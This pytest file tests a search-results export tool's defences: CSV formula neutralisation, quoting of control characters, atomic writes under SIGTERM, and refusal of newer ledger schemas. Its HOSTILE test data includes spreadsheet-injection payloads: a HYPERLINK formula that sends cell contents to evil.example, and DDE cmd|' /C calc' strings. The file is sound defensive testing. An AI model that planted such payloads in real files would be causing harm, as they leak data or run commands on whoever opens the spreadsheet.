"""What we write is safe to open and whole: CSV cells that a spreadsheet would run are
neutralised (unless --raw), fields with CR, LF or NUL are quoted so that pyarrow, DuckDB and
Python's csv read back the same rows, Parquet and JSONL keep every value as it came, and an
interrupted export leaves nothing at its path."""

import csv
import io
import json
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import duckdb
import pyarrow.csv as pa_csv
import pyarrow.parquet as pq
import pytest

from orchestrator.ledger import Ledger
from orchestrator.ledger.migrations import VERSION
from orchestrator.reports.outfile import csv_cell, write_csv_rows
from tests.test_e2e_run import ENV

FIXTURE = Path(__file__).parent / "fixtures" / "naver_organic_task_get_advanced.json"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\tTAB first",
    "\rCR first",
    "a bare\rCR inside",
    "a LF\ninside",
    "a NUL\0inside",
    'quotes "inside", and a comma',
    "plain",
]


def test_cells_are_neutralised_and_quoted_by_the_owasp_rule() -> None:
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("@x") == "'@x" and csv_cell("-2") == "'-2"
    assert csv_cell("+x") == "'+x" and csv_cell("\tx") == "'\tx"
    assert csv_cell("\rx") == '"\'\rx"' and csv_cell("a\0b") == '"a\0b"'
    assert csv_cell('say "hi"') == '"say ""hi"""' and csv_cell("a,b") == '"a,b"'
    assert csv_cell(-2) == "-2" and csv_cell(-0.5) == "-0.5" and csv_cell(None) == ""
    assert csv_cell("=1+1", raw=True) == "=1+1" and csv_cell("a\rb", raw=True) == '"a\rb"'
    assert csv_cell("plain") == "plain" and csv_cell("a - b") == "a - b"


def hostile_results(tmp: Path) -> Path:
    """A job whose results hold the hostile strings as keywords and as SERP titles and URLs
    (third-party pages choose those), one task each."""
    answer = json.loads(FIXTURE.read_text())
    lines = []
    for index, text in enumerate(HOSTILE):
        task: dict[str, Any] = json.loads(json.dumps(answer["tasks"][0]))
        task["id"] = f"11111111-0000-0000-0000-{index:012d}"
        task["data"] |= {"keyword": text, "tag": f"n:{index:020x}"}
        task["result"][0]["keyword"] = text
        task["result"][0]["items"] = task["result"][0]["items"][:1]
        task["result"][0]["items"][0] |= {"title": text, "url": text, "description": text}
        lines.append(json.dumps(task))
    (tmp / "out" / "n").mkdir(parents=True)
    (tmp / "out" / "n" / "results.jsonl").write_text("\n".join(lines) + "\n")
    (tmp / "kw.txt").write_text("x\n")
    config = tmp / "jobs.toml"
    config.write_text(
        '[api]\nlogin = "a"\npassword = "b"\n'
        '[[jobs]]\nname = "n"\nse = "naver"\nse_type = "organic"\ninput = "kw.txt"\n'
    )
    return config


def export(config: Path, *args: str) -> subprocess.CompletedProcess[str]:
    cmd = [sys.executable, "-m", "orchestrator", "export", "--config", str(config), *args]
    return subprocess.run(cmd, capture_output=True, text=True, env=ENV, timeout=120)


def neutral(text: str) -> str:
    return "'" + text if text.startswith(("=", "+", "-", "@", "\t", "\r")) else text


@pytest.mark.parametrize("raw", [False, True])
def test_a_hostile_csv_reads_back_the_same_in_pyarrow_duckdb_and_python(
    tmp_path: Path, raw: bool
) -> None:
    config = hostile_results(tmp_path)
    out = tmp_path / "n.csv"
    done = export(config, "--job", "n", "--out", str(out), *(["--raw"] if raw else []))
    assert done.returncode == 0, done.stderr
    expected = [t if raw else neutral(t) for t in HOSTILE]

    with out.open(newline="", encoding="utf-8") as handle:
        by_python = list(csv.DictReader(handle))
    assert [r["keyword"] for r in by_python] == expected
    assert [r["title"] for r in by_python] == expected
    assert [r["url"] for r in by_python] == expected

    by_arrow = pa_csv.read_csv(out).to_pydict()
    assert by_arrow["keyword"] == expected and by_arrow["title"] == expected

    db = duckdb.connect()
    found = db.execute(
        f"SELECT keyword, title FROM read_csv('{out}', header = true) ORDER BY task_id"
    ).fetchall()
    assert [k for k, _ in found] == expected and [t for _, t in found] == expected


def test_parquet_and_jsonl_keep_every_value_as_it_came(tmp_path: Path) -> None:
    config = hostile_results(tmp_path)
    for name in ("n.parquet", "n.jsonl"):
        done = export(config, "--job", "n", "--out", str(tmp_path / name))
        assert done.returncode == 0, done.stderr
    table = pq.read_table(tmp_path / "n.parquet").to_pydict()
    assert table["keyword"] == HOSTILE and table["title"] == HOSTILE
    lines = (tmp_path / "n.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["keyword"] for line in lines] == HOSTILE


def test_a_report_as_csv_neutralises_keywords_too(tmp_path: Path) -> None:
    """`report --format csv` quoted `=HYPERLINK(...)` but left it a formula; now it is text."""
    out = io.StringIO()
    write_csv_rows(out, ["keyword", "change"], [{"keyword": HOSTILE[0], "change": -3}])
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert row == {"keyword": neutral(HOSTILE[0]), "change": "-3"}


def test_an_export_stopped_by_sigterm_leaves_nothing_at_its_path(tmp_path: Path) -> None:
    """SIGTERM once the export has begun writing (33,000 tasks take it seconds): exit 143,
    no temporary file left beside --out, and the older file there as it was."""
    config = hostile_results(tmp_path)
    lines = (tmp_path / "out" / "n" / "results.jsonl").read_text().splitlines()
    (tmp_path / "out" / "n" / "results.jsonl").write_text("\n".join(lines * 3000) + "\n")
    out = tmp_path / "n.csv"
    out.write_text("yesterday's export\n")
    cmd = [sys.executable, "-m", "orchestrator", "export", "--config", str(config)]
    proc = subprocess.Popen(
        [*cmd, "--job", "n", "--out", str(out)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=ENV,
    )
    try:
        while not list(tmp_path.glob(".n.csv.*.part")):  # the export has begun writing
            assert proc.poll() is None, proc.communicate()
            time.sleep(0.01)  # a poll's interval: not spinning beside the export it waits on
        proc.send_signal(signal.SIGTERM)
        _, err = proc.communicate(timeout=60)
    finally:
        proc.kill()
    assert proc.returncode == 143, err
    assert b"stopped by SIGTERM" in err and b"Traceback" not in err
    assert out.read_text() == "yesterday's export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["jobs.toml", "kw.txt", "n.csv", "out"]


def test_status_and_export_refuse_a_ledger_of_a_newer_schema(tmp_path: Path) -> None:
    """They read it without a word before; now one line, exit 2, as `run` does."""
    config = hostile_results(tmp_path)
    ledger = tmp_path / "orchestrator-state.sqlite"
    Ledger(ledger).close()
    with sqlite3.connect(ledger) as db:
        db.execute(f"PRAGMA user_version = {VERSION + 1}")
    for args in (["status"], ["export", "--job", "n", "--out", str(tmp_path / "n.csv")]):
        cmd = [sys.executable, "-m", "orchestrator", *args, "--config", str(config)]
        done = subprocess.run(cmd, capture_output=True, text=True, env=ENV, timeout=60)
        assert done.returncode == 2, done.stderr
        (line,) = done.stderr.strip().splitlines()
        assert str(ledger) in line and "newer than this orchestrator" in line
    assert not (tmp_path / "n.csv").exists()
